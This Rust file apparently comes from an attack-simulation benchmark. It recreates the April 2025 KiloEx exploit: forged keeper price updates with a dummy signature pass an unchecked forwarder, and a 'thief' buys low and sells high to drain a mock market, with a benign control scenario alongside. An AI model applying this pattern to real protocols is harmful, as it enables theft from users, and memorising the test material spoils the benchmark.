//! A keeper whom anybody may pretend to be, for nobody looks at the signature: KiloEx (April 2025).

use anyhow::{Result, ensure};
use facts::{Address, Bytes, U256};

use crate::{
    Arg as _, Scenario, Stage, Tuple, WETH, args, call_data, ether,
    scenarios::{
        cast::{CITIZENS, assault, issue, paired, rich, wrap},
        declare::leaves_at_most,
        props::{allow, held, out_of_a_mixer, units},
    },
};

pub(super) const OPEN_KEEPER: Scenario = Scenario {
    id: "price/oracle-compromise/open-keeper",
    about: "a market takes prices from its keepers by way of a forwarder that looks at no signature; a stranger says one \
            price, buys, says another one, and sells (KiloEx, April 2025)",
    attack,
    twin,
};

const FORWARD: &str = "execute((address,address,bytes),bytes)";

struct Market {
    keeper: Address,
    relayer: Address,
    forwarder: Address,
    door: Address,
    dollar: Address,
    market: Address,
    pool: Address,
}

/// A price of 18 places.
fn price(cents: u64) -> U256 {
    units(cents, 16)
}

impl Market {
    fn say(&self, stage: &mut Stage<'_>, cents: u64) -> Result<()> {
        let data = call_data("setPrices(uint256)", args![price(cents)]);
        let request = Tuple(args![self.keeper, self.door, data]);
        // Sixty-five bytes that nobody reads.
        let signature = Bytes::from(vec![7u8; 65]);
        stage.call(self.relayer, self.forwarder, FORWARD, vec![request.value(), signature.value()]);
        stage.pass(1)
    }
}

fn market(stage: &mut Stage<'_>) -> Result<Market> {
    let (admin, maker) = (stage.actor("admin"), rich(stage, "maker", 100_000));
    let (keeper, relayer) = (stage.stranger("keeper"), stage.actor("relayer"));
    let mut holders = vec![(maker, stage.amount(units(9_000_000, 6)))];
    for name in CITIZENS {
        holders.push((stage.actor(name), stage.amount(units(2_000_000, 6))));
    }
    let dollar = issue(stage, admin, "USDT", 6, &holders)?;
    let coins = stage.amount(ether(3_000));
    wrap(stage, maker, coins);
    stage.mine()?;
    let pool = paired(stage, maker, (dollar, stage.amount(units(9_000_000, 6))), (WETH, coins))?;
    let forwarder = stage.deploy(admin, "KeeperForwarder", args![])?;
    let market = stage.deploy(admin, "PerpMarket", args![dollar])?;
    let door = stage.deploy(admin, "PositionKeeper", args![forwarder, market, keeper])?;
    stage.call(admin, market, "setKeeper(address)", args![door]);
    stage.protect(market, "market");
    stage.protect(door, "keepers' door");
    stage.protect(forwarder, "forwarder");
    let most = stage.amount(units(1_600_000, 6));
    leaves_at_most(stage, "one-payout", "price/oracle-compromise", (market, Some(dollar)), most);
    stage.pass(1)?;
    for name in CITIZENS {
        let person = stage.actor(name);
        allow(stage, person, dollar, market);
        stage.call(person, market, "provide(uint256)", args![stage.amount(units(1_600_000, 6))]);
    }
    let market = Market { keeper, relayer, forwarder, door, dollar, market, pool };
    for cents in [300_000, 300_450, 299_300, 301_010] {
        market.say(stage, cents)?;
    }
    let bob = stage.actor("bob");
    stage.call(bob, market.market, "openLong(uint256,uint256)", args![stage.amount(units(20_000, 6)), 5u64]);
    for cents in [302_000, 303_700] {
        market.say(stage, cents)?;
    }
    stage.call(bob, market.market, "closeLong()", args![]);
    stage.pass(1)?;
    Ok(market)
}

fn attack(stage: &mut Stage<'_>) -> Result<()> {
    let market = market(stage)?;
    let before = held(stage, market.dollar, market.market)?;
    let thief = out_of_a_mixer(stage, "thief", 1)?;
    stage.transfer(crate::EXCHANGE, thief, stage.amount(ether(25)));
    stage.mine()?;
    let payee = stage.payee(thief);
    let coins = stage.amount(ether(20));
    assault(stage, thief, "KeeperThief", |parts| {
        // Fifty times the margin, and not quite four times the price.
        let Market { forwarder, door, keeper, market, pool, .. } = market;
        let job = args![forwarder, door, keeper, market, pool, price(100_000), price(350_000), payee];
        let ask = "run((address,address,address,address,address,uint256,uint256,address))";
        (coins / U256::from(parts), ask, args![Tuple(job)])
    })?;
    let (left, loot) = (held(stage, market.dollar, market.market)?, held(stage, market.dollar, payee)?);
    ensure!(loot > before * U256::from(8) / U256::from(10), "{loot} of {before} were taken, {left} are left");
    Ok(())
}

/// The price falls by a third in an hour and comes back; who bought at the bottom with borrowed money takes a sixth of
/// what there is.
fn twin(stage: &mut Stage<'_>) -> Result<()> {
    let market = market(stage)?;
    let trader = stage.actor("trader");
    let margin = stage.amount(units(60_000, 6));
    let admin = stage.actor("admin");
    stage.call(admin, market.dollar, "mint(address,uint256)", args![trader, margin]);
    allow(stage, trader, market.dollar, market.market);
    for cents in [290_000, 262_000, 231_000, 204_000] {
        market.say(stage, cents)?;
    }
    stage.call(trader, market.market, "openLong(uint256,uint256)", args![margin, 50u64]);
    for cents in [219_000, 247_000, 271_000, 289_000] {
        market.say(stage, cents)?;
    }
    stage.call(trader, market.market, "closeLong()", args![]);
    stage.mine()?;
    let got = held(stage, market.dollar, trader)?;
    ensure!(got > margin * U256::from(20), "{got} came of {margin}");
    Ok(())
}
